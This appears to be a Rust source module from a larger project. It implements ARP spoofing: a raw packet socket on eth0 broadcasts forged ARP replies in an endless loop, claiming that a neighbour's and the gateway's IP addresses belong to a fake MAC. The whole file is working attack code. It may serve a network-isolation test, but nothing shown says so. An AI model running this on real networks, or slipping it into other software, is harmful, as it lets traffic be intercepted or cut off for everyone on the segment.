//! Frames that say they are somebody else's.

use std::io::Write as _;
use std::net::Ipv4Addr;
use std::time::Duration;

use nix::libc;

/// Claims a neighbour's and the gateway's addresses for itself, by ARP answers to everyone, over
/// and over.
pub(super) fn forge(address: &str, gateway: &str) -> ! {
    let victims: [Ipv4Addr; 2] = [address.parse().unwrap(), gateway.parse().unwrap()];
    // SAFETY: the call takes three numbers.
    let socket = unsafe {
        let every = i32::from(u16::try_from(libc::ETH_P_ALL).unwrap().to_be());
        libc::socket(libc::AF_PACKET, libc::SOCK_RAW, every)
    };
    assert!(socket >= 0, "{}", nix::errno::Errno::last());
    // SAFETY: the name is zero-terminated.
    let index = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) };
    // SAFETY: plain numbers, for which zero is a value.
    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    to.sll_family = u16::try_from(libc::AF_PACKET).unwrap();
    to.sll_ifindex = i32::try_from(index).unwrap();
    to.sll_halen = 6;
    to.sll_addr[..6].copy_from_slice(&[0xFF; 6]);
    let mut forging = false;
    loop {
        for victim in victims {
            let frame = arp_answer(victim);
            // SAFETY: frame and address are as long as they are said to be.
            let sent = unsafe {
                libc::sendto(
                    socket,
                    frame.as_ptr().cast(),
                    frame.len(),
                    0,
                    (&raw const to).cast(),
                    u32::try_from(size_of_val(&to)).unwrap(),
                )
            };
            if sent > 0 && !forging {
                println!("forging");
                std::io::stdout().flush().unwrap();
                forging = true;
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}

/// "`victim` is at 02:66:66:66:66:66", to everyone (RFC 826).
fn arp_answer(victim: Ipv4Addr) -> Vec<u8> {
    let forged = [0x02, 0x66, 0x66, 0x66, 0x66, 0x66];
    let mut frame = Vec::new();
    frame.extend_from_slice(&[0xFF; 6]);
    frame.extend_from_slice(&forged);
    frame.extend_from_slice(&[0x08, 0x06, 0, 1, 8, 0, 6, 4, 0, 2]);
    frame.extend_from_slice(&forged);
    frame.extend_from_slice(&victim.octets());
    frame.extend_from_slice(&[0xFF; 6]);
    frame.extend_from_slice(&victim.octets());
    frame.resize(60, 0);
    frame
}
